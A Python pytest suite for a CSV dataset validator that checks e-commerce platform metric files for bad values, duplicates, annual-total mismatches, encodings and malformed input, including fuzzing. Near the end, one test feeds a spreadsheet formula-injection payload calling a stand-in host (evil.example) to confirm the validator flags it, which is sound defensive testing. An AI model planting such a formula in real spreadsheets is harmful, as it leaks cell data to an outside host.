"""Tests for kreport/dataset/validate.py: every problem is found and located as file:line: column.

On copies of the synthetic dataset in tests/fixtures/data; the shipped data/ is checked in
tests/test_shipped_data.py.
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from kreport.dataset.load import load
from kreport.dataset.schema import TABLES
from kreport.dataset.validate import Problem, check, parse_number
from kreport.errors import DataError

SYNTHETIC_DATA_DIR = Path(__file__).resolve().parents[1] / "fixtures" / "data"
METRIC_COLUMNS = TABLES["metrics.csv"]
# A row that is valid on its own: Kuaishou has no 2020Q1 GMV in the synthetic data.
GOOD_ROW = {
    "platform": "kuaishou", "metric": "gmv", "period": "2020Q1", "value": "500",
    "qualifier": "", "unit": "RMB_100m", "basis": "reported", "source_id": "t-ks-2021", "note": "test row",
}


def read_table(data_dir, name) -> list[dict[str, str]]:
    with open(data_dir / name, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def write_table(data_dir, name, rows, columns) -> None:
    with open(data_dir / name, "w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, columns, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def read_metrics(data_dir) -> list[dict[str, str]]:
    return read_table(data_dir, "metrics.csv")


def write_metrics(data_dir, rows, columns=METRIC_COLUMNS) -> None:
    write_table(data_dir, "metrics.csv", rows, columns)


def append_row(data_dir, **changes) -> int:
    """Append GOOD_ROW with ``changes`` to metrics.csv; return the physical line it is on."""
    rows = read_metrics(data_dir)
    rows.append({**GOOD_ROW, **changes})
    write_metrics(data_dir, rows)
    return len(rows) + 1  # the header is line 1; the shipped rows hold no line breaks


def line_of(data_dir, platform, metric, period) -> int:
    for line, row in enumerate(read_metrics(data_dir), start=2):
        if (row["platform"], row["metric"], row["period"]) == (platform, metric, period):
            return line
    raise LookupError((platform, metric, period))


def where(problems) -> list[tuple]:
    return [(p.file, p.line, p.column) for p in problems]


def digests(data_dir) -> dict[str, str]:
    return {name: hashlib.sha256((data_dir / name).read_bytes()).hexdigest() for name in TABLES}


# --- the synthetic data -----------------------------------------------------------------

def test_synthetic_data_validates_without_errors_or_warnings(synthetic_data_dir):
    report = check(synthetic_data_dir)
    assert report.problems == [], "\n".join(map(str, report.problems))
    assert report.ok
    assert [len(report.tables[name]) for name in TABLES] == [99, 12, 4, 4]
    assert report.summary().startswith(f"{synthetic_data_dir}: 99 figures, 4 platforms, 7 metrics, periods 2020Q4 to ")
    assert report.summary().endswith("12 sources, 4 events; 0 errors, 0 warnings")


def test_summary_names_the_period_that_ends_last(synthetic_data_dir):
    assert "periods 2020Q4 to 2025Q3," in check(synthetic_data_dir).summary()


def test_the_base_test_row_is_valid(synthetic_data_copy):
    append_row(synthetic_data_copy)
    report = check(synthetic_data_copy)
    assert report.problems == []


# --- header problems --------------------------------------------------------------------

def test_missing_column_is_reported_on_the_header(synthetic_data_copy):
    columns = [c for c in METRIC_COLUMNS if c != "qualifier"]
    rows = [{c: r[c] for c in columns} for r in read_metrics(synthetic_data_copy)]
    write_metrics(synthetic_data_copy, rows, columns)
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", 1, "qualifier")]
    assert "column is missing" in report.errors[0].message
    assert str(report.errors[0]).startswith("metrics.csv:1: qualifier: column is missing")


def test_extra_column_is_reported_on_the_header(synthetic_data_copy):
    columns = [*METRIC_COLUMNS, "comment"]
    rows = [{**r, "comment": "x"} for r in read_metrics(synthetic_data_copy)]
    write_metrics(synthetic_data_copy, rows, columns)
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", 1, "comment")]
    assert "unexpected column" in report.errors[0].message


# --- row problems: each bad value is located at its line and column ------------------------

BAD_ROWS = [
    pytest.param({"period": "2022Q5"}, "period", "not a period", id="quarter-5"),
    pytest.param({"period": "2022-Q1"}, "period", "not a period", id="period-with-dash"),
    pytest.param({"period": "2202Q1"}, "period", "year 2202", id="period-year-typo"),
    pytest.param({"period": "FY2022"}, "period", "calendar year", id="fiscal-year-of-calendar-platform"),
    pytest.param({"platform": "taobao"}, "platform", "unknown value 'taobao'", id="unknown-platform"),
    pytest.param({"metric": "revenue"}, "metric", "unknown value 'revenue'", id="unknown-metric"),
    pytest.param({"unit": "USD_bn"}, "unit", "unknown value 'USD_bn'", id="unknown-unit"),
    pytest.param({"basis": "guess"}, "basis", "unknown value 'guess'", id="unknown-basis"),
    pytest.param({"qualifier": "approx"}, "qualifier", "unknown value 'approx'", id="unknown-qualifier"),
    pytest.param({"value": "n/a"}, "value", "is not a number", id="non-numeric"),
    pytest.param({"value": "1.2.3"}, "value", "is not a number", id="two-decimal-points"),
    pytest.param({"value": "nan"}, "value", "is not a number", id="nan"),
    pytest.param({"value": ""}, "value", "is not a number", id="empty-value"),
    pytest.param({"value": "-5"}, "value", "negative", id="negative"),
    pytest.param({"metric": "repurchase_rate", "unit": "percent", "value": "120"}, "value", "out of range",
                 id="rate-above-100-percent"),
    pytest.param({"metric": "repurchase_rate", "unit": "fraction", "value": "1.2"}, "value", "out of range",
                 id="fraction-above-1"),
    pytest.param({"unit": "million"}, "unit", "measures people", id="gmv-in-million-people"),
    pytest.param({"metric": "dau", "unit": "RMB_bn"}, "unit", "measures money", id="dau-in-money"),
    pytest.param({"source_id": "nosuch-source"}, "source_id", "unknown value 'nosuch-source'",
                 id="unknown-source"),
    pytest.param({"source_id": ""}, "source_id", "is empty", id="empty-source"),
]


@pytest.mark.parametrize(("changes", "column", "words"), BAD_ROWS)
def test_bad_row_is_located_at_its_line_and_column(synthetic_data_copy, changes, column, words):
    line = append_row(synthetic_data_copy, **changes)
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", line, column)], "\n".join(map(str, report.problems))
    error = report.errors[0]
    assert words in error.message
    assert str(error).startswith(f"metrics.csv:{line}: {column}: ")
    assert not report.ok


def test_load_raises_the_located_data_error(synthetic_data_copy):
    line = append_row(synthetic_data_copy, value="lots")
    with pytest.raises(DataError) as caught:
        load(synthetic_data_copy)
    error = caught.value
    assert (error.file, error.line, error.column) == ("metrics.csv", line, "value")
    assert str(error).startswith(f"metrics.csv:{line}: value: 'lots' is not a number")


def test_load_counts_the_other_errors(synthetic_data_copy):
    append_row(synthetic_data_copy, value="lots")
    append_row(synthetic_data_copy, period="2021Q1", platform="taobao")
    with pytest.raises(DataError, match=r"and 1 more problems"):
        load(synthetic_data_copy)


def test_row_with_too_many_fields_says_to_quote(synthetic_data_copy):
    text = (synthetic_data_copy / "metrics.csv").read_text(encoding="utf-8")
    line = text.count("\n") + 1
    (synthetic_data_copy / "metrics.csv").write_text(
        text + "kuaishou,gmv,2020Q1,1,751.2,,RMB_100m,reported,t-ks-2021,unquoted comma,\n", encoding="utf-8")
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", line, None)]
    assert "quote any value that contains a comma" in report.errors[0].message


def test_line_numbers_count_physical_lines_after_a_multiline_note(synthetic_data_copy):
    rows = read_metrics(synthetic_data_copy)
    rows.insert(0, {**GOOD_ROW, "note": "first line\nsecond line"})
    rows.append({**GOOD_ROW, "period": "2020Q2", "value": "oops"})
    write_metrics(synthetic_data_copy, rows)
    report = check(synthetic_data_copy)
    # header + 2 physical lines for the first row + the synthetic rows, then the bad row
    expected = 1 + 2 + (len(rows) - 2) + 1
    assert where(report.errors) == [("metrics.csv", expected, "value")]


# --- duplicates and sums ----------------------------------------------------------------

def test_same_figure_twice_with_different_values_is_an_error(synthetic_data_copy):
    first = line_of(synthetic_data_copy, "kuaishou", "gmv", "2023Q3")  # 173 RMB_bn
    line = append_row(synthetic_data_copy, period="2023Q3", value="1740", source_id="t-ks-2023")  # 174 RMB_bn
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", line, "value")]
    assert f"line {first}" in report.errors[0].message
    assert report.errors[0].message.startswith("kuaishou gmv 2023Q3 (reported) is 1740 here")


def test_same_figure_in_another_unit_is_compared_after_normalising(synthetic_data_copy):
    line_of(synthetic_data_copy, "kuaishou", "gmv", "2023Q3")  # 173 RMB_bn
    line = append_row(synthetic_data_copy, period="2023Q3", value="1730", unit="RMB_100m", source_id="t-ks-2023")
    report = check(synthetic_data_copy)
    assert report.errors == []
    assert where(report.warnings) == [("metrics.csv", line, None)]


def test_same_figure_twice_identical_is_a_warning(synthetic_data_copy):
    first = line_of(synthetic_data_copy, "kuaishou", "gmv", "2023Q3")
    line = append_row(synthetic_data_copy, period="2023Q3", value="173", unit="RMB_bn", source_id="t-ks-2023")
    report = check(synthetic_data_copy)
    assert report.errors == []
    assert where(report.warnings) == [("metrics.csv", line, None)]
    assert f"repeats line {first}" in report.warnings[0].message
    assert " warning: " in str(report.warnings[0])


def test_same_period_with_another_basis_is_not_a_duplicate(synthetic_data_copy):
    append_row(synthetic_data_copy, period="2023Q3", value="3000", basis="estimate", source_id="t-ks-2023")
    assert check(synthetic_data_copy).problems == []


def test_quarters_contradicting_the_annual_total_fail_with_every_line_named(synthetic_data_copy):
    rows = read_metrics(synthetic_data_copy)
    line = line_of(synthetic_data_copy, "kuaishou", "gmv", "2022")
    quarters = [line_of(synthetic_data_copy, "kuaishou", "gmv", f"2022Q{n}") for n in range(1, 5)]
    for row in rows:
        if (row["platform"], row["metric"], row["period"]) == ("kuaishou", "gmv", "2022"):
            row["value"] = "0.6"  # RMB_trillion; the four quarters add up to 576 RMB bn, 4% less
    write_metrics(synthetic_data_copy, rows)
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", line, "value")]
    message = report.errors[0].message
    assert "2022Q1-2022Q4" in message
    assert "add up to 576.0, -4.0% off this annual total 600.0" in message
    assert "lines " + ", ".join(map(str, quarters)) in message  # both sides named: the total here, the quarters there
    assert f"metrics.csv:{line}: value:" in str(report.errors[0])


def test_quarters_off_an_approximate_annual_total_only_warn(synthetic_data_copy):
    rows = read_metrics(synthetic_data_copy)
    for row in rows:
        if (row["platform"], row["metric"], row["period"]) == ("kuaishou", "gmv", "2022"):
            row["value"], row["qualifier"] = "0.6", "about"
    write_metrics(synthetic_data_copy, rows)
    report = check(synthetic_data_copy)
    assert report.errors == []
    assert where(report.warnings) == [("metrics.csv", line_of(synthetic_data_copy, "kuaishou", "gmv", "2022"), "value")]


def test_a_bound_an_exact_figure_contradicts_fails_with_both_lines_named(synthetic_data_copy):
    # The issue-23 case: "突破4亿" read as over 4 (100m) for a year whose exact average is 3.994 (100m).
    exact = append_row(synthetic_data_copy, metric="dau", period="2023", value="3.994", unit="100m", source_id="t-ks-2023")
    bound = append_row(synthetic_data_copy, metric="dau", period="2023", value="4", qualifier="over", unit="100m",
                       source_id="t-ks-2023")
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", bound, "qualifier")]
    message = report.errors[0].message
    assert f"line {exact}" in message and "over 4 100m" in message and "3.994 100m" in message


def test_a_bound_contradicted_by_an_exact_figure_of_another_basis_fails_too(synthetic_data_copy):
    exact = append_row(synthetic_data_copy, metric="dau", period="2023", value="399.4", unit="million", source_id="t-ks-2023")
    bound = append_row(synthetic_data_copy, metric="dau", period="2023", value="4", qualifier="over", unit="100m",
                       basis="estimate", source_id="t-ks-2023")
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", bound, "qualifier")]
    assert f"line {exact}" in report.errors[0].message


def test_a_bound_the_exact_figure_meets_at_its_precision_is_no_contradiction(synthetic_data_copy):
    # "under 4.1 (100m)" and "410 million": 410 may be 409.6 as published, so the two can both be true.
    append_row(synthetic_data_copy, metric="dau", period="2023", value="410", unit="million", source_id="t-ks-2023")
    append_row(synthetic_data_copy, metric="dau", period="2023", value="4.1", qualifier="under", unit="100m",
               basis="estimate", source_id="t-ks-2023")
    assert check(synthetic_data_copy).errors == []


def test_a_bound_an_exact_figure_satisfies_is_no_contradiction(synthetic_data_copy):
    append_row(synthetic_data_copy, metric="dau", period="2023", value="3.994", unit="100m", source_id="t-ks-2023")
    append_row(synthetic_data_copy, metric="dau", period="2023", value="3.9", qualifier="over", unit="100m",
               basis="estimate", source_id="t-ks-2023")
    assert check(synthetic_data_copy).errors == []


def test_an_under_bound_below_an_exact_figure_fails(synthetic_data_copy):
    exact = append_row(synthetic_data_copy, metric="dau", period="2023", value="412", unit="million", source_id="t-ks-2023")
    bound = append_row(synthetic_data_copy, metric="dau", period="2023", value="4.1", qualifier="under", unit="100m",
                       basis="estimate", source_id="t-ks-2023")
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", bound, "qualifier")]
    assert f"line {exact}" in report.errors[0].message


def test_quarters_within_one_percent_of_the_annual_total_pass(synthetic_data_copy):
    rows = read_metrics(synthetic_data_copy)
    for row in rows:
        if (row["platform"], row["metric"], row["period"]) == ("kuaishou", "gmv", "2022"):
            row["value"] = "0.58"  # RMB_trillion: the quarters' 576 is 0.7% less
    write_metrics(synthetic_data_copy, rows)
    assert check(synthetic_data_copy).problems == []


def test_fiscal_year_total_is_compared_with_its_own_quarters(synthetic_data_copy):
    # Alibaba's FY2024 (8200 bn) runs 2023Q2..2024Q1; 2023Q1 belongs to FY2023 and must not count.
    quarters = {"2023Q1": "9999", "2023Q2": "2050", "2023Q3": "2050", "2023Q4": "2050", "2024Q1": "2050"}
    for period, value in quarters.items():
        append_row(synthetic_data_copy, platform="alibaba", period=period, value=value, unit="RMB_bn", source_id="t-ali")
    assert check(synthetic_data_copy).problems == []

    rows = read_metrics(synthetic_data_copy)
    rows[-1]["value"] = "2500"  # 2024Q1: the four quarters now add up to 8650 against 8200
    write_metrics(synthetic_data_copy, rows)
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", line_of(synthetic_data_copy, "alibaba", "gmv", "FY2024"), "value")]
    assert "2023Q2-2024Q1" in report.errors[0].message
    assert "add up to 8,650.0, +5.5% off this annual total 8,200.0" in report.errors[0].message


# --- sources, platforms and events: each bad value located at its line and column ------------

GOOD_OTHER_ROWS = {
    "sources.csv": {"source_id": "t-new", "title": "[A test page]", "publisher": "kreport tests",
                    "url": "https://example.org/kreport-tests/new", "published": "2024-01-01", "read_at": "x",
                    "tier": "media"},
    "platforms.csv": {"platform": "jd", "name_en": "JD.com", "name_zh": "京东", "model": "shelf", "parent_en": "",
                      "parent_zh": "", "scope_en": "", "scope_zh": "", "fiscal_year_end_month": "12"},
    "events.csv": {"event_id": "EV99", "platform": "kuaishou", "date": "2024-01-15", "name_en": "Test event",
                   "name_zh": "测试事件", "description_en": "", "description_zh": "", "source_id": "t-events"},
}


def append_to(data_dir, name, **changes) -> int:
    """Append the good row of ``name`` with ``changes``; return the physical line it is on."""
    rows = read_table(data_dir, name)
    rows.append({**GOOD_OTHER_ROWS[name], **changes})
    write_table(data_dir, name, rows, TABLES[name])
    return len(rows) + 1


@pytest.mark.parametrize("name", list(GOOD_OTHER_ROWS))
def test_the_base_rows_of_the_other_files_are_valid(synthetic_data_copy, name):
    append_to(synthetic_data_copy, name)
    assert check(synthetic_data_copy).problems == []


@pytest.mark.parametrize(("name", "changes", "column", "words"), [
    pytest.param("sources.csv", {"source_id": "t new"}, "source_id", "only letters, digits", id="source-id-with-space"),
    pytest.param("sources.csv", {"source_id": "t-ks-2021"}, "source_id", "'t-ks-2021' is defined twice", id="source-twice"),
    pytest.param("sources.csv", {"url": "www.example.org"}, "url", "is not an http(s) address", id="url-without-scheme"),
    pytest.param("sources.csv", {"published": "2024-13-01"}, "published", "is not a date", id="published-month-13"),
    pytest.param("sources.csv", {"published": "01/02/2024"}, "published", "is not a date YYYY-MM-DD", id="published-form"),
    pytest.param("sources.csv", {"title": ""}, "title", "is empty", id="empty-title"),
    pytest.param("platforms.csv", {"model": "social"}, "model", "unknown value 'social'", id="unknown-model"),
    pytest.param("platforms.csv", {"platform": "kuaishou"}, "platform", "'kuaishou' is defined twice", id="platform-twice"),
    pytest.param("platforms.csv", {"fiscal_year_end_month": "13"}, "fiscal_year_end_month", "not a month number",
                 id="month-13"),
    pytest.param("platforms.csv", {"fiscal_year_end_month": "March"}, "fiscal_year_end_month", "not a month number",
                 id="month-name"),
    pytest.param("platforms.csv", {"name_zh": ""}, "name_zh", "is empty", id="empty-chinese-name"),
    pytest.param("events.csv", {"event_id": "EV01"}, "event_id", "'EV01' is defined twice", id="event-twice"),
    pytest.param("events.csv", {"platform": "jd"}, "platform", "unknown value 'jd'", id="event-unknown-platform"),
    pytest.param("events.csv", {"source_id": "nosuch"}, "source_id", "unknown value 'nosuch'", id="event-unknown-source"),
    pytest.param("events.csv", {"date": "2023-02-30"}, "date", "is not a date", id="date-not-on-the-calendar"),
    pytest.param("events.csv", {"date": "15.01.2024"}, "date", "is not a date YYYY-MM-DD", id="date-form"),
    pytest.param("events.csv", {"name_en": ""}, "name_en", "is empty", id="empty-event-name"),
])
def test_bad_value_in_another_file_is_located(synthetic_data_copy, name, changes, column, words):
    line = append_to(synthetic_data_copy, name, **changes)
    report = check(synthetic_data_copy)
    assert where(report.errors) == [(name, line, column)], "\n".join(map(str, report.problems))
    assert words in report.errors[0].message
    with pytest.raises(DataError) as caught:  # and the loader refuses the folder, at the same place
        load(synthetic_data_copy)
    assert (caught.value.file, caught.value.line, caught.value.column) == (name, line, column)


def test_a_figure_of_a_platform_with_a_march_fiscal_year_may_use_fy(synthetic_data_copy):
    line = append_row(synthetic_data_copy, platform="alibaba", period="FY2022", value="7900", unit="RMB_bn",
                      source_id="t-ali")
    assert check(synthetic_data_copy).problems == []
    rows = read_table(synthetic_data_copy, "platforms.csv")
    for row in rows:
        if row["platform"] == "alibaba":
            row["fiscal_year_end_month"] = "12"  # now its FY periods are calendar years
    write_table(synthetic_data_copy, "platforms.csv", rows, TABLES["platforms.csv"])
    report = check(synthetic_data_copy)
    fy_lines = [line_of(synthetic_data_copy, "alibaba", "gmv", p) for p in ("FY2023", "FY2024", "FY2025")]
    assert where(report.errors) == [("metrics.csv", n, "period") for n in sorted([*fy_lines, line])]
    assert "write 2022" in report.errors[-1].message


# --- files saved by Excel and other tools -------------------------------------------------

def test_excel_bom_crlf_and_thousands_separators_are_accepted(synthetic_data_copy):
    rows = read_metrics(synthetic_data_copy)
    line = line_of(synthetic_data_copy, "kuaishou", "gmv", "2022Q1")
    rows[line - 2].update(value="1,200.5", unit="RMB_100m")  # was 120000 RMB_mn
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, METRIC_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    assert '"1,200.5"' in buffer.getvalue()
    (synthetic_data_copy / "metrics.csv").write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8"))

    report = check(synthetic_data_copy)
    assert report.errors == [], "\n".join(map(str, report.errors))
    assert sorted(where(report.warnings), key=str) == sorted(
        [("metrics.csv", 1, None), ("metrics.csv", None, None), ("metrics.csv", line, "value")], key=str)
    messages = " | ".join(p.message for p in report.warnings)
    assert "byte-order mark" in messages and "CRLF" in messages and "read as 1200.5" in messages

    metrics = load(synthetic_data_copy).metrics
    row = metrics[(metrics["platform"] == "kuaishou") & (metrics["metric"] == "gmv")
                  & (metrics["period"].astype(str) == "2022Q1")].iloc[0]
    assert row["value_published"] == pytest.approx(1200.5)
    assert row["value"] == pytest.approx(120.05)
    assert row["line"] == line
    assert set(metrics["platform"]) == {"alibaba", "douyin", "kuaishou", "pdd"}  # the BOM is not in a name


def test_gbk_file_is_rejected_with_a_fix(synthetic_data_copy):
    text = (synthetic_data_copy / "metrics.csv").read_text(encoding="utf-8")
    (synthetic_data_copy / "metrics.csv").write_bytes(text.encode("gbk", errors="replace"))
    first_non_ascii = next(i for i, line in enumerate(text.split("\n"), start=1) if not line.isascii())
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", first_non_ascii, None)]
    message = report.errors[0].message
    assert "not UTF-8" in message and "CSV UTF-8" in message
    with pytest.raises(DataError, match="re-save it as 'CSV UTF-8"):
        load(synthetic_data_copy)


def test_semicolon_separated_file_is_rejected_with_a_fix(synthetic_data_copy):
    rows = read_metrics(synthetic_data_copy)
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, METRIC_COLUMNS, delimiter=";", lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    (synthetic_data_copy / "metrics.csv").write_text(buffer.getvalue(), encoding="utf-8")
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", 1, None)]
    assert "';'" in report.errors[0].message and "Comma delimited" in report.errors[0].message
    with pytest.raises(DataError) as caught:
        load(synthetic_data_copy)
    assert (caught.value.file, caught.value.line) == ("metrics.csv", 1)


def test_spreadsheet_bytes_are_rejected(synthetic_data_copy):
    (synthetic_data_copy / "metrics.csv").write_bytes(b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 20)
    report = check(synthetic_data_copy)
    assert [p.file for p in report.errors] == ["metrics.csv"]
    assert not report.ok


def test_missing_file_is_reported(synthetic_data_copy):
    (synthetic_data_copy / "events.csv").unlink()
    report = check(synthetic_data_copy)
    assert ("events.csv", None, None) in where(report.errors)
    assert "missing" in report.errors[0].message


def test_parse_number_forms():
    assert parse_number("1751.2") == 1751.2
    assert parse_number(" 1,751.2 ") == 1751.2
    assert parse_number("175,075.6") == 175075.6
    assert parse_number(".5") == 0.5
    for bad in ("1,75.2", "1.751,2", "12a", "", "1 751", "+-1"):
        with pytest.raises(ValueError):
            parse_number(bad)


# --- validating never writes ---------------------------------------------------------------

def test_validating_and_loading_never_modify_the_files(synthetic_data_dir, synthetic_data_copy):
    before = digests(synthetic_data_dir)
    check(synthetic_data_dir)
    load(synthetic_data_dir)
    assert digests(synthetic_data_dir) == before

    # Also a folder with an Excel-saved file and an error in it.
    raw = (synthetic_data_copy / "metrics.csv").read_bytes().replace(b"\n", b"\r\n")
    (synthetic_data_copy / "metrics.csv").write_bytes(b"\xef\xbb\xbf" + raw)
    (synthetic_data_copy / "sources.csv").write_bytes((synthetic_data_copy / "sources.csv").read_bytes() + b"bad id,,,,,\n")
    before = digests(synthetic_data_copy)
    report = check(synthetic_data_copy)
    with pytest.raises(DataError):
        load(synthetic_data_copy)
    assert not report.ok
    assert digests(synthetic_data_copy) == before


# --- property: no input makes the validator or loader fail with a raw traceback -------------------

BASE_TEXT = (SYNTHETIC_DATA_DIR / "metrics.csv").read_text(encoding="utf-8")
BASE_ROWS = list(csv.reader(io.StringIO(BASE_TEXT, newline="")))
TRICKY_CELLS = [
    "", " ", "-1", "-0", "1e999", "nan", "inf", "1,751.2", "1,75", "0x1F", "1_000", "２０２２Q1", "١٢", "²",
    "2022Q5", "2022-Q1", "FY2022", "FY2021", "0000Q1", "9999", "2022Q1 ", "over", "about", "percent",
    "fraction", "RMB_trillion", "120", "estimate", "t-ks-2021", "t-ali", "douyin", "alibaba", "pdd", "annual_buyers",
    '"', '""', ",", ";", "\n", "\r", "\r\n", "\x00", "\ufeff", "\u2028", "快手", "a,b", 'x"y',
]
ROW_LEVEL = re.compile(r"^metrics\.csv:(\d+): (?:([a-z_]+|\(blank\)): )?(?:warning: )?\S")


@st.composite
def mutated_metrics(draw) -> bytes:
    """The synthetic metrics.csv with random cells replaced, quotes dropped and bytes changed."""
    rows = [list(r) for r in BASE_ROWS]
    for _ in range(draw(st.integers(0, 4))):
        i = draw(st.integers(0, len(rows) - 1))
        j = draw(st.integers(0, len(rows[i]) - 1))
        rows[i][j] = draw(st.sampled_from(TRICKY_CELLS) | st.text(max_size=12))
    if draw(st.booleans()):  # drop or keep a few whole rows
        keep = draw(st.sampled_from([0, 1, 2]) | st.integers(0, len(rows)))  # header only, empty file
        rows = rows[:keep]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=draw(st.sampled_from(["\n", "\r\n"]))).writerows(rows)
    text = buffer.getvalue()
    quoting = draw(st.sampled_from(["keep", "drop_all", "drop_one"]))
    if quoting == "drop_all":
        text = text.replace('"', "")
    elif quoting == "drop_one" and '"' in text:
        k = draw(st.integers(0, text.count('"') - 1))
        pos = [m.start() for m in re.finditer('"', text)][k]
        text = text[:pos] + text[pos + 1:]
    data = bytearray(text.encode("utf-8"))
    for _ in range(draw(st.integers(0, 3))):
        op = draw(st.sampled_from(["insert", "replace", "delete", "truncate"]))
        pos = draw(st.integers(0, len(data)))
        if op == "insert":
            data[pos:pos] = draw(st.binary(min_size=1, max_size=8))
        elif op == "replace" and pos < len(data):
            data[pos] = draw(st.integers(0, 255))
        elif op == "delete":
            del data[pos:pos + draw(st.integers(1, 40))]
        elif op == "truncate":
            del data[pos:]
    return bytes(data)


@pytest.fixture(scope="module")
def fuzz_dir(tmp_path_factory):
    target = tmp_path_factory.mktemp("fuzz") / "data"
    shutil.copytree(SYNTHETIC_DATA_DIR, target)
    return target


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(content=mutated_metrics())
def test_malformed_metrics_never_escape_as_raw_exceptions(fuzz_dir, content):
    (fuzz_dir / "metrics.csv").write_bytes(content)
    # A line ends at \r\n, \n or a lone \r, as the csv module (and editors) read it.
    physical_lines = len(re.findall(rb"\r\n|\r|\n", content)) + 1

    report = check(fuzz_dir)  # must not raise
    for problem in report.problems:
        assert isinstance(problem, Problem)
        assert problem.file == "metrics.csv", str(problem)  # only metrics.csv was changed
        assert problem.severity in ("error", "warning")
        assert problem.message.strip()
        text = str(problem)
        if problem.line is not None and problem.line > 1:  # a row-level problem
            match = ROW_LEVEL.match(text)
            assert match, text
            assert int(match.group(1)) == problem.line <= physical_lines
            assert match.group(2) == problem.column
            assert problem.column is None or problem.column in METRIC_COLUMNS
            assert text.startswith(f"metrics.csv:{problem.line}: "
                                   + (f"{problem.column}: " if problem.column else ""))

    try:
        dataset = load(fuzz_dir)
    except DataError as error:
        event("load rejected the file")
        assert not report.ok
        first = report.errors[0]
        assert (error.file, error.line, error.column) == (first.file, first.line, first.column)
        assert error.line is None or isinstance(error.line, int)
        assert error.column is None or isinstance(error.column, str)
        assert str(error).startswith(error.file)
    else:
        event("load accepted the file")
        assert report.ok, "\n".join(map(str, report.errors))
        assert len(dataset.metrics) == len(report.tables["metrics.csv"])
        assert dataset.metrics["value"].notna().all()


# --- issue 24: periods not yet over, implausible neighbours, formulas, digits, cascades, odd files -------------

def _undated_source(data_dir) -> str:
    """Add a source without a publication date (the date check then says nothing) and return its id."""
    with open(data_dir / "sources.csv", "a", encoding="utf-8") as handle:
        handle.write("t-undated,[Synthetic undated page],kreport tests,,,tests (synthetic),company\n")
    return "t-undated"


def _this_quarter() -> str:
    import datetime as dt

    today = dt.date.today()
    return f"{today.year}Q{(today.month - 1) // 3 + 1}"


@pytest.mark.parametrize("period", ["2099Q4", "this quarter", "2100"])
def test_a_period_that_has_not_ended_is_an_error(synthetic_data_copy, period):
    """Issue 24 item 5: 2099Q4 passed, and became the build's default quarter."""
    period = _this_quarter() if period == "this quarter" else period
    line = append_row(synthetic_data_copy, period=period, source_id=_undated_source(synthetic_data_copy))
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", line, "period")]
    assert f"{period} has not ended yet" in report.errors[0].message


def test_a_quarter_that_has_ended_is_accepted(synthetic_data_copy):
    import datetime as dt

    import pandas as pd

    last = pd.Period(dt.date.today(), freq="Q-DEC") - 1
    append_row(synthetic_data_copy, period=str(last), source_id=_undated_source(synthetic_data_copy))
    assert check(synthetic_data_copy).ok


def test_a_source_published_before_its_period_began_is_still_an_error(synthetic_data_copy):
    line = append_row(synthetic_data_copy, period="2024Q4", metric="dau", value="400", unit="million", source_id="t-ks-2021")
    report = check(synthetic_data_copy)
    assert ("metrics.csv", line, "source_id") in where(report.errors)


def test_a_hundredfold_jump_between_neighbouring_quarters_is_a_warning_naming_both_lines(synthetic_data_copy):
    """Issue 24 item 10: MAU of 7.302 million right after 771.7 million passed without a word."""
    rows = read_metrics(synthetic_data_copy)
    before = line_of(synthetic_data_copy, "kuaishou", "mau", "2025Q3")
    rows.append({**GOOD_ROW, "metric": "mau", "period": "2025Q4", "value": "7.302", "unit": "million", "source_id": _undated_source(synthetic_data_copy)})
    write_metrics(synthetic_data_copy, rows)
    report = check(synthetic_data_copy)
    assert report.ok
    [warning] = [p for p in report.warnings if "unit slip" in p.message]
    assert (warning.line, warning.column) == (len(rows) + 1, "value")
    assert f"kuaishou mau (reported) 2025Q4 is 7.302 million on this line, 0.00936 times 2025Q3's 7.8 100m on line {before}" in warning.message


def test_a_mistyped_figure_warns_against_both_neighbours(synthetic_data_copy):
    rows = read_metrics(synthetic_data_copy)
    for row in rows:
        if (row["platform"], row["metric"], row["period"]) == ("kuaishou", "gmv", "2025Q2"):
            row["value"] = "49999"  # for 1925
    write_metrics(synthetic_data_copy, rows)
    warnings = [p for p in check(synthetic_data_copy).warnings if "unit slip" in p.message]
    assert len(warnings) == 2 and "2025Q2 is 49999" in warnings[0].message and "2025Q3 is 2090" in warnings[1].message


def test_the_shipped_data_has_no_neighbour_warnings(shipped_data_dir):
    assert not [str(p) for p in check(shipped_data_dir).warnings if "unit slip" in p.message]


@pytest.mark.parametrize("note", ['=HYPERLINK("http://evil.example/?x="&A1,"results")', "+1 more", "-A1", "@SUM(A1)"])
def test_a_cell_a_spreadsheet_would_run_is_a_warning(synthetic_data_copy, note):
    """Issue 24 item 4: validate passed a note or title starting with '='."""
    line = append_row(synthetic_data_copy, note=note)
    report = check(synthetic_data_copy)
    assert report.ok and where(report.warnings) == [("metrics.csv", line, "note")]
    assert "which a spreadsheet reads as a formula" in report.warnings[0].message


@pytest.mark.parametrize("note", ["'=neutralised", "-5", "+3.5", "1e-3", "a = b"])
def test_numbers_and_neutralised_cells_are_not_formulas(synthetic_data_copy, note):
    append_row(synthetic_data_copy, note=note)
